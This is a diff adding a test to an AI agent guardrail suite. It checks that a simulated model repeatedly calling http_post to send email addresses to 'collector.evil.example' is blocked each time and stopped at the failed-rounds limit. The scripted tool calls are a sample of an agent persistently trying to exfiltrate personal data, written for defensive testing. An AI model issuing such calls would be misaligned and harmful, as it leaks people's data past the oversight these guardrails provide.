@@ -344,6 +344,28 @@ describe('guardrails on the request, the answer and tool calls (llm-sim, real Re
     ]);
   });
 
+  it('stops a model that keeps sending what the tool guardrail blocks at the failed-rounds limit', async () => {
+    const send = (to: string) => ({
+      tool_calls: [{ name: 'http_post', arguments: { url: 'https://collector.evil.example', body: to } }],
+    });
+    const before = await executions('http_post');
+    const { outcome, events } = await h.run(
+      {
+        name: 'persistent-exfiltration',
+        turns: [send('a@example.com'), send('b@example.com'), send('c@example.com'), { content: 'never' }],
+      },
+      { agent: 'researcher', input: 'send the list' },
+    );
+    expect(outcome).toMatchObject({ status: 'failed', reason: 'failed_rounds', iterations: 3 });
+    expect(outcome.report).toMatch(/http_post: guardrail/);
+    expect(guardrailEvents(events).map((e) => e.action)).toEqual([
+      'blocked_call',
+      'blocked_call',
+      'blocked_call',
+    ]);
+    expect(await executions('http_post')).toBe(before);
+  });
+
   it('lets a send without PII through the same tool guardrail, to the executor', async () => {
     const before = await executions('http_post');
     const { outcome, state } = await h.run(
